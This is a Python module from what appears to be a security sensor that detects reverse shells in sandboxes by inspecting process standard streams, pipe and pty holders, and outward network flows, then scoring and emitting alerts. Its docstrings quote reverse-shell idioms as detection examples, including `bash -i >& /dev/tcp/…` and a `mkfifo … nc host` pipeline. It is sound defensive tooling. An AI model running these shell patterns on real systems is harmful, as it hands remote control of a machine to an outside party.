"""(b) Reverse shell: a program whose standard streams are a flow, or whose pipes or pty a holder of a flow feeds.

Directly, the evidence is the socket itself: nothing ordinary runs with an outgoing connection as its input and output,
whatever it is called. Where a pipe or pty stands between, an agent that keeps a shell and reads a model's replies has
the same shape: there, what the flow speaks, and commands that follow its data, decide; a shell under another name is
known by them too. So is one that reads lines by itself, and gives the flow as output to what it runs. Accepted flows
are what sshd and inetd hand out. A socket that never becomes a flow is a unix socketpair: sshd, systemd, Node's pipes.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable
from itertools import chain

from msgspec import Struct

from sensor.configdetect import ReverseShellSettings
from sensor.detect.behavior import behavior, processes, total
from sensor.detect.bounded import Budget, Levels, PerSandbox
from sensor.detect.fed import Fed, Watch, inherits
from sensor.detect.flows import Flow, FlowTable
from sensor.detect.holding import Holding
from sensor.detect.world import World
from sensor.events.activity import Activity, NetworkBehavior, NetworkFlow, ProcessCreation

REVISITED = 4  # shells without a known feeder that a new flow is tried on
TOGETHER_NS = 10 * 10**9  # a pipeline's parts start together; its connect may wait for a name
KINDS = frozenset({"socket", "pipe", "pty"})
Streams = tuple[str, str, str, int, int, int]


Subject = ProcessCreation | NetworkFlow  # of whom is looked at


class Case(Struct, frozen=True, gc=False):
    event: Activity  # of the accused
    flow: Flow | None
    inner: str  # socket, pipe, pty
    holders: tuple[int, ...] = ()
    steps: int = 0


class Later(Struct, gc=False):
    """To be looked at again: a program at a socket that is no flow yet, or a flow whose maker may put it there."""

    at_ns: int
    from_ns: int
    tries: int
    event: Subject


class _Sandbox:
    def __init__(self, settings: ReverseShellSettings) -> None:
        self.budget = Budget(settings.scans_a_minute)
        self.later: list[Later] = []
        self.shells = Watch(settings.watched)  # at a pipe or pty, by process
        self.others = Watch(settings.watched)  # programs there that are no shells by name
        self.answering = Watch(settings.watched)  # makers of flows that are the output of what is run, by flow
        self.inverted_ns = -1  # when data last came in on an outward flow after a pause
        self.levels = Levels(settings.marks, settings.keys, settings.events_an_hour)


class ReverseShell:
    def __init__(
        self, settings: ReverseShellSettings, sandboxes: int, world: World, holding: Holding, counters: Counter[str]
    ) -> None:
        self._settings = settings
        self._world = world
        self._holding = holding
        self._counters = counters
        self._sandboxes: PerSandbox[_Sandbox] = PerSandbox(
            lambda: _Sandbox(settings), sandboxes, counters, "reverse_shell"
        )
        self._waiting: dict[int, None] = {}  # sandboxes with something in `later`
        self._names: dict[str, tuple[bool, bool]] = {}

    @property
    def busy(self) -> bool:
        return bool(self._waiting)

    def forget(self, sandbox_id: int) -> None:
        self._sandboxes.forget(sandbox_id)
        self._waiting.pop(sandbox_id, None)

    def left(self, sandbox_id: int, tgid: int) -> None:
        if (sandbox := self._sandboxes.peek(sandbox_id)) is not None:
            sandbox.shells.drop(tgid)
            sandbox.others.drop(tgid)

    def executed(self, table: FlowTable, event: ProcessCreation) -> list[NetworkBehavior]:
        """A program whose standard input is a socket, pipe or pty, or its output a socket."""
        sandbox = self._sandboxes.get(event.SandboxId)
        produced = self._step(sandbox, event)
        sandbox.shells.drop(event.ProcessId)
        sandbox.others.drop(event.ProcessId)
        if event.StandardInput == "socket":
            streams = _streams(event)
            if _same(streams) and (flow := table.by_inode(event.StandardInputInode)) is not None:
                return produced + self._at_flow(sandbox, table, event, flow, _all_three(streams))
            if _same(streams):
                self._wait(sandbox, event, event.monotonic_ns)
                return produced
        elif event.StandardOutput == "socket":
            produced += self._answered(sandbox, table, event)
        if event.StandardInput in KINDS and event.StandardOutput in KINDS:
            self._watch(sandbox, table, event)
        return produced

    def _watch(self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation) -> None:
        """Whoever feeds a shell is looked for; of other programs, of which every pipeline has some, the parent."""
        shell, _ = self._is_shell(event.Image)
        watch = sandbox.shells if shell else sandbox.others
        if not shell and event.StandardInput == "socket":
            return
        fed = watch.put(event.ProcessId, Fed(event, event.StandardInput, shell=shell))
        if shell:
            self._counters["reverse_shell_shells_evicted"] += watch.evicted
            watch.evicted = 0
            self._wait(sandbox, event, event.monotonic_ns)
        else:
            fed.flow = self._outward(table, (event.ParentProcessId,))

    def began(self, flow: Flow, event: NetworkFlow) -> None:
        """An outward flow: `bash -i >& /dev/tcp/…` and a script's dup2 put it on their streams after the connect."""
        sandbox = self._sandboxes.get(event.SandboxId)
        if not any(
            type(later.event) is NetworkFlow and later.event.ProcessId == event.ProcessId for later in sandbox.later
        ):
            self._wait(sandbox, event, event.monotonic_ns)
        unfed = [fed for fed in chain(sandbox.shells, sandbox.others) if fed.unfed]
        for fed in unfed:
            if event.ProcessId == fed.event.ParentProcessId or event.ProcessId in fed.holders:
                fed.found(flow)
        for fed in [fed for fed in unfed if fed.shell][-REVISITED:]:
            if fed.unfed and event.monotonic_ns - fed.since_ns <= TOGETHER_NS:
                self._revisit(sandbox, fed, event.monotonic_ns)

    def inversion(self, flow: Flow) -> None:
        """Data came in on an outward flow: whom its maker feeds may only now be known."""
        sandbox = self._sandboxes.peek(flow.event.SandboxId)
        if sandbox is None or not flow.outward:
            return
        sandbox.inverted_ns = flow.last_inversion_ns
        for fed in chain(sandbox.shells, sandbox.others, sandbox.answering):
            if fed.unfed and fed.event.ParentProcessId == flow.tgid:
                fed.found(flow)
            if fed.flow is flow:
                fed.before = flow.bytes_in

    def recognised(self, flow: Flow, now_ns: int) -> list[NetworkBehavior]:
        """First bytes told what a flow speaks: a prompt that goes out weighs, and is worth looking for its shell."""
        sandbox = self._sandboxes.peek(flow.event.SandboxId)
        if sandbox is None or not flow.outward:
            return []
        fed_by_it = [
            fed for fed in chain(sandbox.shells, sandbox.others, sandbox.answering) if fed.flow is flow
        ]  # fmt: skip
        if flow.shell and not fed_by_it:
            for fed in [fed for fed in sandbox.others if fed.unfed][-REVISITED:]:
                self._revisit(sandbox, fed, now_ns)
        return [told for fed in fed_by_it for told in self._tell_fed(sandbox, fed, now_ns)]

    def tick(self, tables: PerSandbox[FlowTable], now_ns: int) -> list[NetworkBehavior]:
        produced: list[NetworkBehavior] = []
        for sandbox_id in list(self._waiting):
            sandbox, table = self._sandboxes.peek(sandbox_id), tables.peek(sandbox_id)
            if sandbox is None or table is None:
                del self._waiting[sandbox_id]
                continue
            due = [later for later in sandbox.later if later.at_ns <= now_ns]
            sandbox.later = [later for later in sandbox.later if later.at_ns > now_ns]
            for later in due:
                found = self._look(sandbox, table, later.event, later.tries, now_ns)
                if found is None:
                    self._wait(sandbox, later.event, later.from_ns, later.tries + 1)
                else:
                    produced += found
            if not sandbox.later:
                del self._waiting[sandbox_id]
        return produced

    def _wait(self, sandbox: _Sandbox, event: Subject, from_ns: int, tries: int = 0) -> None:
        if tries >= len(self._settings.check_ms):
            return
        if len(sandbox.later) >= self._settings.waiting:
            del sandbox.later[0]
            self._counters["reverse_shell_checks_dropped"] += 1
        sandbox.later.append(Later(from_ns + self._settings.check_ms[tries] * 10**6, from_ns, tries, event))
        self._waiting[event.SandboxId] = None

    def _revisit(self, sandbox: _Sandbox, fed: Fed, now_ns: int) -> None:
        """Look for who feeds it, unless that waits already."""
        if isinstance(fed.event, ProcessCreation) and all(later.event is not fed.event for later in sandbox.later):
            self._wait(sandbox, fed.event, now_ns)

    def _look(
        self, sandbox: _Sandbox, table: FlowTable, event: Subject, tries: int, now_ns: int
    ) -> list[NetworkBehavior] | None:
        """None: look again."""
        if isinstance(event, NetworkFlow):
            return self._look_at_maker(sandbox, table, event)
        fed = sandbox.shells.get(event.ProcessId) or sandbox.others.get(event.ProcessId)
        if fed is not None and fed.event is event:
            return self._look_at_feeder(sandbox, table, fed, event, now_ns)
        # At a pipe, it ended or runs another program by now.
        return self._look_at_socket(sandbox, table, event, tries, now_ns) if event.StandardInput == "socket" else []

    def _look_at_socket(
        self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation, tries: int, now_ns: int
    ) -> list[NetworkBehavior] | None:
        streams = _streams(event)
        flow = table.by_inode(event.StandardInputInode) or self._without_inode(table, event, now_ns)
        if flow is not None:
            return self._at_flow(sandbox, table, event, flow, _all_three(streams))
        if tries + 1 < len(self._settings.check_ms):
            return None
        # Flows are told within a second, unless there were too many: without one it is a socketpair.
        if not table.evicted or not any(self._is_shell(event.Image)):
            return []
        return self._emit(sandbox, Case(event, None, "socket"), {"streams": 40}, now_ns)

    def _look_at_maker(self, sandbox: _Sandbox, table: FlowTable, event: NetworkFlow) -> list[NetworkBehavior] | None:
        """Whichever of its flows is on its streams: one look a process, however many it opens."""
        streams = self._world.standard_streams(event.ProcessId)
        if not _same(streams) or (flow := table.by_inode(streams[3])) is None or flow.tgid != event.ProcessId:
            return None
        return self._at_flow(sandbox, table, event, flow, _all_three(streams))

    def _without_inode(self, table: FlowTable, event: ProcessCreation, now_ns: int) -> Flow | None:
        """A flow whose inode was not known when it was told: that of a process which holds this socket."""
        unknown = [flow for flow in table.flows.values() if not flow.inode]
        if not unknown or not self._holding.may_scan(event.SandboxId, now_ns):
            return None
        holders = self._world.holders(event.SandboxId, event.StandardInputInode)
        return next((flow for flow in unknown if flow.tgid in holders), None)

    def _at_flow(
        self, sandbox: _Sandbox, table: FlowTable, event: Subject, flow: Flow, all_three: bool
    ) -> list[NetworkBehavior]:
        shell = any(self._is_shell(event.Image))
        to = flow.event
        near = to.DestinationIsPrivate and not to.DestinationIsLoopback
        far = to.Initiated and (flow.outward or self._chained(table, flow))
        if not to.Initiated:
            streams = 10
        elif not far:
            streams = 20
        else:
            streams = 45 if shell else 40 if all_three else 30
        parts = {
            "streams": streams,
            "outward": (15 if near else 30) if far else 0,
            "public": 5 if far and not near else 0,
            "program": 10 if shell else 0,
        }
        return self._emit(sandbox, Case(event, flow, "socket"), parts, event.monotonic_ns)

    def _chained(self, table: FlowTable, flow: Flow) -> bool:
        end = table.other_end(flow)
        return end is not None and any(True for tgid in self._holding.family(end.tgid) for _ in table.outward_of(tgid))

    def _look_at_feeder(
        self, sandbox: _Sandbox, table: FlowTable, fed: Fed, event: ProcessCreation, now_ns: int
    ) -> list[NetworkBehavior] | None:
        """By parentage first; by who holds the pipes, as in `mkfifo f; sh <f | nc host >f`, where a flow might fit."""
        if not fed.unfed:
            return []
        flow = self._outward(table, (event.ParentProcessId, *self._holding.family(event.ParentProcessId)))
        if flow is None and any(flow.outward for flow in table.flows.values()):
            fed.holders = self._feeders(sandbox, event, now_ns)
            flow = self._outward(table, fed.holders)
        if flow is None:
            return None
        fed.found(flow)
        return self._tell_fed(sandbox, fed, now_ns)

    def _feeders(self, sandbox: _Sandbox, event: ProcessCreation, now_ns: int) -> tuple[int, ...]:
        found: dict[int, None] = {}
        streams = _streams(event)
        for kind, inode in dict.fromkeys(zip(streams[:2], streams[3:5], strict=True)):
            if kind not in {"pipe", "pty"}:
                continue
            if not sandbox.budget.take(now_ns):
                self._counters["scans_over_budget"] += 1
                break
            if kind == "pty":
                found.update(dict.fromkeys(self._world.pty_masters(event.SandboxId, int(inode))))
            else:
                found.update(dict.fromkeys(self._world.pipe_peers(event.SandboxId, int(inode), event.ProcessId)))
        return tuple(found)

    def _outward(self, table: FlowTable, tgids: Iterable[int]) -> Flow | None:
        """The flow that says least of what it is: an agent's to its model must not hide another."""
        flows = [flow for tgid in tgids for flow in table.outward_of(tgid)]
        return min(flows, key=lambda flow: (not flow.shell, flow.http, flow.started_ns), default=None)

    def _step(self, sandbox: _Sandbox, event: ProcessCreation) -> list[NetworkBehavior]:
        """A program started by a watched one, shortly after data came in on the flow that feeds it. Where none is
        known, and it is some flow's data that came in, whose is looked for."""
        fed = sandbox.shells.get(event.ParentProcessId)
        if fed is None:
            fed = sandbox.others.get(event.ParentProcessId)
            if fed is None or not inherits(event, fed.event):
                return []
        known = fed.flow if not fed.unfed else None
        came_ns = known.last_inversion_ns if known is not None else sandbox.inverted_ns
        if not fed.stepped(came_ns, event.monotonic_ns, self._settings, self._world):
            return []
        if known is None:
            self._revisit(sandbox, fed, event.monotonic_ns)
            return []
        return self._tell_fed(sandbox, fed, event.monotonic_ns)

    def _answered(self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation) -> list[NetworkBehavior]:
        """`while read line; do $line >&5; done <&5`: a flow is the output of what is run after its data."""
        flow = table.by_inode(event.StandardOutputInode)
        if flow is None or not flow.outward or flow.last_inversion_ns < 0:
            return []
        fed = sandbox.answering.get(flow.cookie) or sandbox.answering.put(
            flow.cookie, Fed(flow.event, "socket", shell=any(self._is_shell(flow.event.Image)), flow=flow)
        )
        if not fed.stepped(flow.last_inversion_ns, event.monotonic_ns, self._settings, self._world):
            return []
        return self._tell_fed(sandbox, fed, event.monotonic_ns)

    def _tell_fed(self, sandbox: _Sandbox, fed: Fed, now_ns: int) -> list[NetworkBehavior]:
        flow = fed.flow
        if flow is None:
            return []
        case = Case(fed.event, flow, fed.inner, (*fed.holders, flow.tgid), fed.steps)
        return self._emit(sandbox, case, fed.parts(flow, self._settings), now_ns)

    def _emit(self, sandbox: _Sandbox, case: Case, parts: dict[str, int], now_ns: int) -> list[NetworkBehavior]:
        event, flow = case.event, case.flow
        key = flow.cookie if flow is not None else event.ProcessGuid
        if not sandbox.levels.passes(key, total(parts), now_ns, self._counters):
            return []
        if flow is not None:
            flow.read(self._world)
        holders = processes(case.holders or (event.ProcessId,))
        return [
            behavior(
                "reverse_shell", event, parts, now_ns, flow, Inner=case.inner, Repetitions=case.steps,
                HolderProcessIds=holders,
            )
        ]  # fmt: skip

    def _is_shell(self, image: str) -> tuple[bool, bool]:
        """(shell, other interpreter). Versions do not matter: python3.11, lua5.4."""
        known = self._names.get(image)
        if known is None:
            if len(self._names) >= 4096:
                self._names.clear()
            name = image.rpartition("/")[2]
            plain = name.rstrip("0123456789.-")
            known = self._names[image] = (
                name in self._settings.shells or plain in self._settings.shells,
                plain in self._settings.interpreters,
            )
        return known


def _streams(event: ProcessCreation) -> Streams:
    return (
        event.StandardInput, event.StandardOutput, event.StandardError,
        event.StandardInputInode, event.StandardOutputInode, event.StandardErrorInode,
    )  # fmt: skip


def _all_three(streams: Streams) -> bool:
    return streams[2] == "socket" and streams[5] == streams[3]


def _same(streams: Streams) -> bool:
    """Standard input and output are one socket."""
    return streams[0] == streams[1] == "socket" and streams[3] == streams[4] != 0
